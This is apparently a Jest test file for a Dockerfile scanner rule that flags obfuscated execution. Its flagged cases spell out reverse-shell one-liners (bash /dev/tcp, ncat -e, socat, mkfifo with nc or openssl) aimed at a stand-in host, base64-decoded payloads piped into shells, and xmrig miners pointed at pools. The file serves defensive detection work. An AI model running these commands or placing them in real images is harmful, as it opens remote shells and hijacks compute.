import { describe, it } from '@jest/globals';
import rule from '../../../src/rules/supply-chain/downloads/obfuscated-exec.ts';
import { expectMarks } from '../../support/example.ts';

describe('obfuscated-exec', () => {
  it.each([
    ['base64 and sh', 'RUN «echo YQ== | base64 -d | sh»'],
    ['more steps', 'RUN «echo YQ== | base64 --decode | gunzip | bash -s x»'],
    ['bytes', 'RUN «xxd -r -p a | python3»'],
    ['openssl', 'RUN «openssl enc -d -aes-256-cbc -k x -in a | bash»'],
    ['eval', 'RUN «eval $(echo YQ== | base64 -d)»'],
    ['a substitution', 'RUN «bash -c "$(base64 -d a)"» && «bash <(base64 -d a)»'],
    ['python', `RUN «python3 -c 'import base64; exec(base64.b64decode("YQ=="))'»`],
    ['a connection', 'RUN «bash -i >& /dev/tcp/198.51.100.7/443» 0>&1'],
    ['netcat', 'RUN «ncat 198.51.100.7 443 -e /bin/bash»'],
    ['socat', `RUN «socat exec:'bash -li',pty tcp:198.51.100.7:443»`],
    ['ncat with a line for a shell', 'RUN «ncat --sh-exec "bash -i" 198.51.100.7 443»'],
    ['ncat with an attached line', 'RUN «ncat 198.51.100.7 443 --sh-exec="/bin/bash -li 2>&1"»'],
    ['netcat with a line', `RUN «ncat -c '/bin/sh -i' 198.51.100.7 443»`],
    ['a line of socat', `RUN «socat tcp:198.51.100.7:443 SYSTEM:'bash -i'»`],
    ['a pipe in a circle', 'RUN rm -f /f;mkfifo /f;«cat /f|sh -i 2>&1|nc 198.51.100.7 443 >/f»'],
    ['such a pipe without -i', 'RUN mkfifo /f; «cat /f | /bin/bash 2>&1 | ncat --ssl 198.51.100.7 443 > /f»'],
    [
      'such a pipe by redirects',
      'RUN mkfifo /f; «sh -i < /f 2>&1 | openssl s_client -quiet -connect c.example.org:443 > /f»',
    ],
    ['such a pipe by telnet', 'RUN mknod /f p; «sh < /f 2>&1 | telnet 198.51.100.7 443 > /f»'],
    ['a connection by xargs', `RUN echo x | xargs -I{} bash -c '«bash -i >& /dev/tcp/198.51.100.7/443» 0>&1'`],
    [
      'a connection by xargs with a number',
      `RUN echo x | xargs -n1 bash -c '«bash -i >& /dev/tcp/198.51.100.7/443» 0>&1'`,
    ],
    ['a file with an argument', 'RUN echo YQ== | base64 -d > /t; «sh -x /t /a»'],
    ['a miner', 'RUN «./xmrig -o pool.example.com:3333 -u x» && «a -o stratum+tcp://pool.example.com:3333»'],
    ['a miner in CMD', 'CMD «xmrig -o stratum+tcp://pool.example.com:3333»'],
    ['a miner in ENTRYPOINT', 'ENTRYPOINT ["«xmrig", "-o", "stratum+tcp://pool.example.com:3333»"]'],
    ['a miner in a script of CMD', 'CMD ["sh", "-c", "app & «xmrig -o pool.example.com:443»"]'],
    ['a pool in a health check', 'HEALTHCHECK CMD «/tmp/a -o stratum+ssl://pool.example.com:443»'],
  ])('reports %s', (_name, text) =>
    expectMarks(rule, 'Dockerfile', `FROM debian:12\n${text.replace('» 0>&1', ' 0>&1»')}`),
  );

  it.each([
    ['data', 'RUN echo YQ== | base64 -d > /a && base64 -d a | tar x && echo "$K" | base64 -d | gpg --import'],
    ['encoding', 'RUN cat a | base64 | sh'],
    ['a test of a port', 'RUN (echo > /dev/tcp/db/5432) && nc -z db 5432 && timeout 1 bash -c "</dev/tcp/db/5432"'],
    ['a line for another program', 'RUN ncat --sh-exec "cat /a" db.example.com 443'],
    ['a command of a shell', `RUN ncat -c 'sh -c "cat /a"' db.example.com 443`],
    ['the output of a script', 'RUN sh /a.sh 2>&1 | nc logs.example.com 514'],
    ['the output of a script that is read', 'RUN cat /a.sh | sh | nc logs.example.com 514 > /out'],
    ['a script in a here-document', 'RUN bash -s <<E > /dev/tcp/198.51.100.7/443\necho a\nE'],
    ['a circle on this machine', 'RUN mkfifo /f; cat /f | sh -i | nc localhost 443 > /f'],
    ['a test of a port by xargs', `RUN echo db | xargs -I{} bash -c '</dev/tcp/{}/5432'`],
    ['this machine', 'RUN bash -i > /dev/tcp/localhost/80'],
    ['decoding in a program', `RUN python3 -c 'import base64; print(base64.b64decode("YQ=="))'`],
    ['a stage that says that it mines', 'RUN xmrig --version\nFROM debian:12 AS miner\nCMD ["xmrig", "-o", "pool"]'],
    ['an image that says it', 'RUN true\nFROM ghcr.io/acme/xmrig:6\nENTRYPOINT ["xmrig", "-o", "pool"]'],
    ['the version of a miner', 'CMD ["xmrig", "--version"]'],
    ['text', 'RUN echo "base64 -d | sh" && echo bash -i'],
    ['a stage that is used by nothing', 'RUN echo YQ== | base64 -d | sh\nFROM scratch'],
  ])('accepts %s', (_name, text) => expectMarks(rule, 'Dockerfile', `FROM debian:12\n${text}`));
});
